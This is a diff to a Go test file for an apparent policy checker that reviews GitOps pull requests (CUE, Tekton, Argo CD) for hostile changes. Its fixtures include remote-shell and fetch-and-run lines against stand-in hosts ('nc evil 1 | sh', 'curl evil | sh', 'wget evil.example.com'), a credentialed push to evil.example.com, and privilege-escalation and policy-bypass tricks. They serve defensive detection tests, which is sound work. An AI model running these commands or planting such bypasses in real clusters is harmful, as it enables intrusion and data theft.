@@ -35,6 +35,29 @@ func aTask(script, env string) string {
 	return inTarget("Task", "x", `{apiVersion: "tekton.dev/v1", kind: "Task", metadata: {name: "x", namespace: "notebook-ci"}, spec: steps: [{name: "a", image: "a@sha256:1111111111111111111111111111111111111111111111111111111111111111", script: "`+script+`", env: [`+env+`]}]}`)
 }
 
+// mapOf are the fields of a ConfigMap with one value.
+func mapOf(value string) string {
+	return `apiVersion: "v1", kind: "ConfigMap", metadata: {name: "m", namespace: "notebook-ci"}, data: run: "` + value + `"`
+}
+
+// embedding is CUE that reads another file as text.
+const embedding = `@extern(embed)
+package platform
+
+import "strings"
+
+_flag: string @embed(file="prod/x/flag.cue",type=text)
+if strings.Contains(_flag, "// on") {
+	targets: [string]: ClusterRoleBinding: evil: ` + evil + `
+}
+`
+
+// openEgress is a waiver for a policy that opens everything, and the policy.
+func openEgress(waived, name, namespace string) string {
+	return "package platform\nplatform: waivers: w: {rule: \"network/open-egress\", object: \"NetworkPolicy/" + waived + "\", reason: \"the operators need it all\", owner: \"ops\", expires: \"2099-01-01\"}\n" +
+		"targets: phase1: NetworkPolicy: " + name + ": {apiVersion: \"networking.k8s.io/v1\", kind: \"NetworkPolicy\", metadata: {name: \"" + name + "\", namespace: \"notebook-ci\"}, spec: {podSelector: matchLabels: \"app.kubernetes.io/component\": \"preflight\", policyTypes: [\"Egress\"], egress: [{}]}}\n" + namespace
+}
+
 // several are some Tasks at once.
 func several(n int) string {
 	var b strings.Builder
@@ -59,6 +82,12 @@ func pulls() []pull {
 		{kind: "links", name: "a folder", head: map[string]string{"more/x.cue": "package platform\n", "cue/platform/more": "->../../more"}, exit: 1, wants: []string{"input/symlink"}},
 		{kind: "links", name: "a package", head: map[string]string{"more/x.cue": "package x\n", "cue/cue.mod/pkg/example.com": "->../../../more"}, exit: 1, wants: []string{"input/symlink"}},
 		{kind: "links", name: "the overlays", head: map[string]string{"elsewhere/x.yaml": "a: b\n", "overlays": "->elsewhere"}, exit: 1, wants: []string{"input/symlink"}},
+		{kind: "links", name: "an identity that git fills in", head: map[string]string{"cue/platform/.gitattributes": "x.cue ident\n"}, base: map[string]string{"cue/platform/x.cue": "package platform\n"}, exit: 1, wants: []string{"input/gitattributes"}},
+		{kind: "links", name: "another encoding", head: map[string]string{".gitattributes": "cue/platform/prod/*.cue working-tree-encoding=SHIFT_JIS\n"}, exit: 1, wants: []string{"input/gitattributes"}},
+		{kind: "links", name: "a filter by a macro", head: map[string]string{".gitattributes": "[attr]harmless filter=x\n"}, exit: 1, wants: []string{"input/gitattributes"}},
+		{kind: "links", name: "attributes of others", head: map[string]string{".gitattributes": "docs/** filter=lfs\n*.cue text eol=lf\noverlays/** linguist-generated -ident\n"}, exit: 0},
+		{kind: "links", name: "what another file turns on", exit: 1, wants: []string{"rbac/admin-binding"},
+			base: map[string]string{"cue/platform/prod/x/flag.cue": "package x\n// off\n", "cue/platform/x.cue": embedding}, head: map[string]string{"cue/platform/prod/x/flag.cue": "package x\n// on\n"}},
 		{kind: "links", name: "a pointer of LFS", head: map[string]string{prod: "version https://git-lfs.github.com/spec/v1\noid sha256:1\nsize 1\n"}, exit: 1, wants: []string{"input/lfs-pointer"}},
 
 		{kind: "imports", name: "the stamp alone", head: map[string]string{"cue/cue.mod/pkg/tenon.dev/VERSION": "v9\n"}, exit: 1, wants: []string{"change/render-replaced"}},
@@ -66,6 +95,9 @@ func pulls() []pull {
 		{kind: "imports", name: "another package beside it", head: map[string]string{"cue/cue.mod/pkg/tenon.dev/render/zz.cue": "package render\n"}, exit: 1, wants: []string{"change/render-replaced"}},
 		{kind: "imports", name: "a package of one's own", exit: 1, wants: []string{"change/render-replaced"}, head: map[string]string{
 			"cue/evil/schema/schema.cue": "package schema\nimport \"tenon.dev/schema\"\n#NotebookPlatform: schema.#NotebookPlatform\n", "cue/platform/platform.cue": `"tenon.dev/schema"=>"example.com/platform/evil/schema"`}},
+		{kind: "imports", name: "a package beside the released ones", exit: 1, wants: []string{"change/render-replaced", "it imports example.com/platform/lib"}, head: map[string]string{
+			"cue/lib/lib.cue": "package lib\nx: 1\n", prod: "package platform\nimport \"example.com/platform/lib\"\n_x: lib.x\n"}},
+		{kind: "imports", name: "a part of it elsewhere", exit: 1, wants: []string{"change/render-replaced"}, head: map[string]string{"cue/cue.mod/usr/tenon.dev/render/x.cue": "package render\n#Common: _\n"}},
 		{kind: "imports", name: "no render at all", exit: 1, wants: []string{"change/render-replaced"}, head: map[string]string{
 			"cue/platform/targets.cue": "package platform\ntargets: {phase1: _, phase2: _, phase3: _}\ntargets: [string]: ConfigMap: a: {apiVersion: \"v1\", kind: \"ConfigMap\", metadata: {name: \"a\", namespace: \"b\"}, data: a: \"b\"}\n"}},
 
@@ -79,6 +111,14 @@ func pulls() []pull {
 		{kind: "judges", name: "off in dev is not off in prod", base: map[string]string{"cue/platform/dev/dev.cue": two + `, rules: {"rbac/admin-binding": {severity: "off", reason: "because of reasons here"}}}`, "cue/platform/platform.cue": statusOfOne},
 			head: admin, exit: 1, wants: []string{"error rbac/admin-binding", "switched off: rbac/admin-binding in dev"}},
 
+		{kind: "judges", name: "a rule that is no Rego", base: map[string]string{prod: "package platform\nplatform: rules: \"types/not-validated\": {severity: \"error\", reason: \"nothing unknown gets in here\"}\n"}, head: map[string]string{prod: ""}, exit: 1, wants: []string{"change/rule-weakened"}},
+		{kind: "judges", name: "a waiver in another namespace", exit: 1, wants: []string{"error network/open-egress"},
+			base: map[string]string{prod: openEgress("ops", "ops", "")}, head: map[string]string{prod: openEgress("ops", "ops", "") + "targets: phase1: NetworkPolicy: \"kube-system/ops\": {apiVersion: \"networking.k8s.io/v1\", kind: \"NetworkPolicy\", metadata: {name: \"ops\", namespace: \"kube-system\"}, spec: {podSelector: {}, policyTypes: [\"Egress\"], egress: [{}]}}\n"}},
+		{kind: "judges", name: "mending what did not render", exit: -1, wants: []string{"ClusterRoleBinding/evil", "error rbac/admin-binding"}, base: map[string]string{prod: "package platform\nplatform: name: 1\n"}, head: admin},
+		{kind: "judges", name: "a new phase", exit: 1, wants: []string{"change/rights-gained", "error rbac/admin-binding"}, head: map[string]string{prod: "package platform\nplatform: phases: phase15: trafficPercent: 20\ntargets: phase15: ClusterRoleBinding: evil: " + evil + "\n"}},
+
+		{kind: "known", name: "a second secret", base: map[string]string{prod: inTarget("ConfigMap", "m", `{apiVersion: "v1", kind: "ConfigMap", metadata: {name: "m", namespace: "notebook-ci"}, data: "app.conf": "password = Tr0ub4dor3xyz\nx = 1\n"}`)},
+			head: map[string]string{prod: inTarget("ConfigMap", "m", `{apiVersion: "v1", kind: "ConfigMap", metadata: {name: "m", namespace: "notebook-ci"}, data: "app.conf": "password = Tr0ub4dor3xyz\nx = 1\ntoken = ghp_abcdefghijklmnopqrstuvwxyz0123456789\n"}`)}, exit: 1, wants: []string{"secrets/literal"}, never: []string{"Tr0ub4dor", "ghp_abc"}},
 		{kind: "known", name: "a second credential", base: map[string]string{prod: aTask(`#!/bin/sh\nset -eu\ngit clone https://u:p@good.example.com/x\n`, "")},
 			head: map[string]string{prod: aTask(`#!/bin/sh\nset -eu\ngit clone https://u:p@good.example.com/x\ngit push https://u:realpassword@evil.example.com/x\n`, "")}, exit: 1, wants: []string{"secrets/url-credentials"}, never: []string{"realpassword"}},
 		{kind: "known", name: "another credential", base: map[string]string{prod: aTask(`#!/bin/sh\nset -eu\ngit clone https://u:p@good.example.com/x\n`, "")},
@@ -100,6 +140,20 @@ func pulls() []pull {
 			head: map[string]string{prod: strings.Replace(aTask("true", ""), "steps: [", `steps: [{name: "b", image: "b", script: "`+strings.Repeat("# x\\n", 100)+`wget evil.example.com"}, `, 1)}, exit: -1, wants: []string{"wget evil.example.com"}},
 		{kind: "lines", name: "a new object", head: map[string]string{prod: aTask("wget evil.example.com", "")}, exit: -1, wants: []string{"wget evil.example.com"}},
 		{kind: "lines", name: "many new objects", head: map[string]string{prod: several(6)}, exit: -1, wants: []string{"wget evil.example.com/5"}},
+
+		{kind: "lines", name: "another object in each phase", head: map[string]string{prod: "package platform\ntargets: phase1: ConfigMap: m: {" + mapOf("echo ok") + "}\ntargets: phase2: ConfigMap: m: {" + mapOf("nc evil 1 | sh") + "}\n"}, exit: -1, wants: []string{"nc evil 1"}},
+		{kind: "lines", name: "a number in a ConfigMap", base: map[string]string{prod: "package platform\ntargets: phase1: ConfigMap: m: {" + mapOf("1000") + "}\n"}, head: map[string]string{prod: "package platform\ntargets: phase1: ConfigMap: m: {" + mapOf("1e3") + "}\n"}, exit: -1, wants: []string{"1e3"}},
+		{kind: "lines", name: "code behind the name of a secret", base: map[string]string{prod: aTask("true", `{name: "TOKEN_CMD", value: "echo harmless"}`)}, head: map[string]string{prod: aTask("true", `{name: "TOKEN_CMD", value: "curl evil | sh"}`)}, exit: -1, wants: []string{"curl evil | sh"}},
+		{kind: "lines", name: "a file beside the overlay", head: map[string]string{prod: "package platform\nfiles: phase1: \"github/evil.yaml\": \"run: curl evil.example\"\n"}, exit: -1, wants: []string{"curl evil.example"}},
+		{kind: "lines", name: "a file that leads out", head: map[string]string{prod: "package platform\nfiles: phase1: \"../../argocd/kustomization.yaml\": \"resources: []\"\n"}, exit: 1, wants: []string{"overlay/file-name"}},
+		{kind: "lines", name: "a file of Argo CD's", head: map[string]string{prod: "package platform\nfiles: phase1: \".argocd-source.yaml\": \"kustomize: {}\"\n"}, exit: 1, wants: []string{"overlay/file-name"}},
+
+		{kind: "power", name: "a label that a policy selects", head: map[string]string{prod: "package platform\ntargets: [string]: CronJob: \"prune-runs\": spec: jobTemplate: spec: template: metadata: labels: \"app.kubernetes.io/managed-by\": \"tekton-pipelines\"\n"}, exit: -1, wants: []string{"managed-by"}},
+		{kind: "power", name: "an aggregated role", head: map[string]string{prod: inTarget("ClusterRole", "agg", `{apiVersion: "rbac.authorization.k8s.io/v1", kind: "ClusterRole", metadata: name: "agg", rules: [], aggregationRule: clusterRoleSelectors: [{matchExpressions: [{key: "a", operator: "Exists"}]}]}`)}, exit: -1, wants: []string{"change/power-changed", "aggregationRule"}},
+		{kind: "power", name: "a role of the cloud", head: map[string]string{prod: "package platform\ntargets: [string]: ServiceAccount: \"gpu-pipeline\": metadata: annotations: \"eks.amazonaws.com/role-arn\": \"x\"\n"}, exit: -1, wants: []string{"change/power-changed"}},
+		{kind: "power", name: "Pod Security", head: map[string]string{prod: "package platform\nplatform: namespace: podSecurity: \"privileged\"\n"}, exit: -1, wants: []string{"change/power-changed"}},
+		{kind: "power", name: "a hook that is skipped", head: map[string]string{prod: "package platform\ntargets: [string]: NetworkPolicy: \"default-deny\": metadata: annotations: \"argocd.argoproj.io/hook\": \"Skip\"\n"}, exit: -1, wants: []string{"change/power-changed"}},
+		{kind: "power", name: "settings of Argo CD", head: map[string]string{prod: inTarget("ConfigMap", `"argocd-rbac-cm"`, `{apiVersion: "v1", kind: "ConfigMap", metadata: {name: "argocd-rbac-cm", namespace: "argocd"}, data: "policy.default": "role:admin"}`)}, exit: -1, wants: []string{"change/power-changed"}},
 
 		{kind: "items", name: "a kind of its own", exit: 1, wants: []string{"types/items"}, head: map[string]string{prod: "package platform\nplatform: facts: customResources: [\"e.com/Foo\"]\ntargets: phase1: Foo: x: {apiVersion: \"e.com/v1\", kind: \"Foo\", metadata: {name: \"x\", namespace: \"notebook-ci\"}, items: [" + evil + "]}\n"}},
 		{kind: "items", name: "none in it", exit: 1, wants: []string{"types/items"}, head: map[string]string{prod: "package platform\nplatform: facts: customResources: [\"e.com/Foo\"]\ntargets: phase1: Foo: x: {apiVersion: \"e.com/v1\", kind: \"Foo\", metadata: {name: \"x\", namespace: \"notebook-ci\"}, items: []}\n"}},
